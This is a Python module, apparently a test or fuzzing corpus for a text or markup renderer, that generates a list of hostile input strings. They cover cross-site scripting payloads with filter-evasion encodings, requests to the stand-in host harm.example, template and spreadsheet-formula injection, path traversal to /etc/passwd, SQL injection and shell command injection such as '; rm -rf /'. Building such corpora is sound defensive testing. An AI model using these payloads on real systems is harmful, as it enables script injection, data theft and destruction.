"""Strings that have run code, fetched something or broken a page elsewhere, and variations of them."""

from __future__ import annotations

from itertools import product

_RUN = "window.harmed=1"
_OUT = "https://harm.example/x"

_TAGS = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "iframe",
    "object",
    "embed",
    "input",
    "details",
    "marquee",
    "math",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "file:///",
    "//harm.example/",
)
_BREAKS = ("", '"', "'", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "`")

HOSTILE: tuple[str, ...] = (
    *(f"<{tag} src=x {event}={_RUN}>" for tag, event in product(_TAGS, _EVENTS)),
    *(f"{before}<script>{_RUN}</script>" for before in _BREAKS),
    *(f"[press here]({scheme}{_RUN})" for scheme in _SCHEMES),
    *(f'<a href="{scheme}{_RUN}">press here</a>' for scheme in _SCHEMES),
    *(f"![]({_OUT}{number}.png)" for number in range(4)),
    *(f'<{tag} src="{_OUT}">' for tag in ("img", "iframe", "script", "video", "link rel=stylesheet href=x")),
    f"<svg><script>{_RUN}</script></svg>", f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>", f"<svg><foreignObject><img src=x onerror={_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>", f"<math href='javascript:{_RUN}'>x</math>",
    f"<math><annotation-xml encoding='text/html'><script>{_RUN}</script>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<style>@import '{_OUT}';</style>", f"<style>*{{background:url({_OUT})}}</style>", f"<p style='background:url({_OUT})'>x</p>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>", f"<base href='{_OUT}'>", f"<form action='{_OUT}'><button>x</button></form>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E", f"＜script＞{_RUN}＜/script＞", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<\x00script>{_RUN}</script>",
    "$x^2$", "$$\\href{javascript:window.harmed=1}{x}$$", "$\\includegraphics{https://harm.example/x}$", "\\(\\unicode{x}\\)", "$\\def\\a{\\a\\a}\\a$",
    ":red[words]", ":material/home:", ":smile:", ":blue-background[x]", "# Heading", "- list", "> quote", "***", "| a | b |\n|---|---|", "```\ncode", "    code", "~~gone~~", "[^1]: note", "[x]: https://harm.example/x", "<https://harm.example/x>",
    "{{constructor.constructor('window.harmed=1')()}}", "${window.harmed=1}", "<%= window.harmed=1 %>", "#{7*7}", "{% import os %}", "{0.__class__}", "%s%s%n", "{}", "{name}",
    "datum.x; window.harmed=1", "event.view.fetch('https://harm.example/x')", "warn(1)", "{\"signal\": \"window.harmed=1\"}", "{\"url\": \"https://harm.example/x\"}", "['constructor']",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"https://harm.example/x\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "＝1+1",
    f"<select onfocus={_RUN} autofocus>", f"<textarea onfocus={_RUN} autofocus>", f"<isindex type=image src=1 onerror={_RUN}>", f"<img srcset='{_OUT} 1x'>", f"<a href=x ping='{_OUT}'>x</a>", f"<template><script>{_RUN}</script></template>", f"<dialog open onclose={_RUN}>",
    "__proto__", "constructor", "toString", "../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "CON", "NUL", "' OR 1=1 --", "; rm -rf /", "$(id)", "`id`", "| id",
    "\u202etxt.exe", "\u2066\u2067\u2068", "\u200b\u200c\u200d\ufeff", "a\u0300" * 60, "👩‍👩‍👧‍👦" * 20, "\u0000\u0001\u0008", "\u2028\u2029", "ﷺ" * 40, "W" * 500, "\ufff9\ufffa\ufffb",
)  # fmt: skip

FORMULAE = tuple(words for words in HOSTILE if words.lstrip(" ")[:1] in "=+-@\t\r＝")
